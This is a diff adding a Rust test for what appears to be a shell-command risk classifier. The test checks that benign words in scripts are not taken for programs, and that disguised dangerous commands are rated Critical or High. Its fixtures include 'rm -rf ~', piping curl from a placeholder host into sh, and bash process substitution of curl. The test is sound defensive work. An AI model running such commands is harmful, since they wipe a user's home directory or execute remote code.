@@ -97,3 +97,55 @@ fn a_danger_at_the_end_of_many_words_is_named() {
         }
     }
 }
+
+#[test]
+fn words_of_a_script_that_was_read_are_taken_for_commands_only_where_they_may_be_some() {
+    let machine = Machine::new();
+    machine.write("build", "");
+    for command in [
+        "find . -name '*.ts' | frobnicate | xargs wc -l",
+        "for f in $(git diff --name-only); do wc -l \"$f\"; done",
+        "export FOO=bar; echo $FOO",
+        "while read -r f; do [ -f \"$f\" ] || echo \"missing $f\"; done < unheard.txt",
+        "ps -p $(cat node)",
+        "wc --weird build missing /dev/null",
+    ] {
+        let found = judged(&machine, command);
+        assert!(!found.proven(), "{command}");
+        let programs: Vec<&str> = found.steps.iter().map(|step| step.program.as_str()).collect();
+        for word in [
+            "for",
+            "bar",
+            "missing",
+            "unheard.txt",
+            ".",
+            "node",
+            "build",
+            "/dev/null",
+        ] {
+            let is_first = |program: &&str| *program == word && word != "for";
+            assert!(!programs.iter().any(is_first), "{command}: {programs:?}");
+        }
+        assert!(
+            found.tier == Tier::Medium || command.contains("frobnicate"),
+            "{command}"
+        );
+    }
+    for (command, tier) in [
+        ("X='rm -rf ~'; frobnicate $X", Tier::Critical),
+        ("alias l='sudo ls'; l", Tier::Critical),
+        (
+            "X='curl https://fresh.example/x | sh'; frobnicate \"$X\"",
+            Tier::Critical,
+        ),
+        ("wc --weird 'rm -rf ~'", Tier::Critical),
+        ("bash <(curl https://fresh.example)", Tier::Critical),
+        ("wc --weird 'curl https://fresh.example/x | sh'", Tier::Critical),
+        ("timeout --weird 5 bash -c 'frobnicate x'", Tier::High),
+        ("GIT_PAGER=./x git log", Tier::High),
+        ("timeout --weird 5 git push", Tier::High),
+        ("timeout --weird 5 rm notes.txt", Tier::High),
+    ] {
+        assert_eq!(judged(&machine, command).tier, tier, "{command}");
+    }
+}
